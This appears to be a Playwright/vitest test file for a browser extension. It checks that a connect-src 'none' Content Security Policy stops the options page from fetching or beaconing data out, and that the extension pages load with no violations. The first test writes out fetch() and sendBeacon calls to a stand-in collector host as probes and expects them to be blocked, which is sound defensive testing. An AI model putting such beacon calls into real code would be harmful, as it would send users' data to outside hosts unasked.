// The extension never makes a network request of its own: its pages run under a CSP with
// connect-src 'none' (manifest.json), so even a bug or an injected script in the options page
// cannot send the evidence anywhere. Checked against the loopback fixture server's request log.
import { expect, it } from 'vitest';
import type { FixtureServer } from '../fixtures/server';
import { useObservedBrowser } from './session';
import type { Launched } from './browser';

let server: FixtureServer;
let browser: Launched;

useObservedBrowser((session) => {
  ({ server, browser } = session);
});

it('keeps the options page from fetching or beaconing to any server', async () => {
  const options = await browser.context.newPage();
  const violations: string[] = [];
  options.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await options.goto(`chrome-extension://${browser.extensionId}/src/options/index.html`);
  const marker = `csp-probe-${Date.now()}`;
  const outcome = await options.evaluate(async (path) => {
    const tries = {
      https: () => fetch(`https://collector.example/${path}`),
      http: () => fetch(`http://collector.example/${path}`),
      loopback: () => fetch(`http://127.0.0.1/${path}`),
    };
    const results: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        results[name] = `fetched ${(await attempt()).status}`;
      } catch (error) {
        results[name] = `rejected ${(error as Error).name}`;
      }
    }
    // sendBeacon answers true before the CSP check; the server log below shows it never arrived.
    navigator.sendBeacon(`https://collector.example/${path}`, 'x');
    return results;
  }, marker);
  expect(outcome).toEqual({ https: 'rejected TypeError', http: 'rejected TypeError', loopback: 'rejected TypeError' });
  // Give a request that did slip out time to arrive, then check the server saw none.
  await new Promise((r) => setTimeout(r, 500));
  expect(server.log.filter((r) => r.path.includes(marker))).toEqual([]);
  expect(violations.length).toBeGreaterThan(0);
  await options.close();
}, 30_000);

it('lets the popup, options and rep pages load and run with no CSP violation', async () => {
  for (const path of ['src/popup/index.html?tab=-1', 'src/options/index.html', 'src/rep/index.html']) {
    const page = await browser.context.newPage();
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) =>
        console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`),
      );
    });
    await page.goto(`chrome-extension://${browser.extensionId}/${path}`);
    await page.waitForLoadState('load');
    await page.locator('main, #app').first().waitFor();
    await new Promise((r) => setTimeout(r, 500));
    // zod probes once whether eval works (Function("")) and falls back when it does not; MV3 never
    // allowed eval in extension pages, so that one refusal is expected and harmless.
    expect(
      violations.filter((v) => !/script-src eval/.test(v)),
      path,
    ).toEqual([]);
    await page.close();
  }
}, 30_000);
